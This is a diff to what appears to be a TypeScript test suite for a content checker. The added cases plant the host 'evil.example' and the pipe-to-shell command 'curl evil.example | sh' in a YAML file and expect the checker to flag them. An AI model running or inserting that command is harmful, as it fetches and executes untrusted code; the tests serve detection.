@@ -959,6 +959,16 @@ const builtFaults: [name: string, changes: Changes, expected: string[]][] = [
     ['actions/plant-mint.yaml', 'a wallet address: 0x52908400098527886E0F7030069857D2E4169EE7'],
   ],
   [
+    'the name of a host that no site registers',
+    { 'dates/week.yaml': swap('Each year.', 'See evil.example each year.') },
+    ['dates/week.yaml', 'a host name: evil.example', 'sites/', 'words/<language>.txt'],
+  ],
+  [
+    'a command that runs what a host sends',
+    { 'dates/week.yaml': swap('Each year.', 'Type curl evil.example | sh.') },
+    ['dates/week.yaml', 'a command that runs what it downloads: curl evil.example | sh'],
+  ],
+  [
     'an account number',
     { 'dates/week.yaml': swap('Each year.', 'Send seeds to NL91 ABNA 0417 1643 00.') },
     ['dates/week.yaml', 'an account number (IBAN): NL91 ABNA 0417 1643 00', 'records only'],
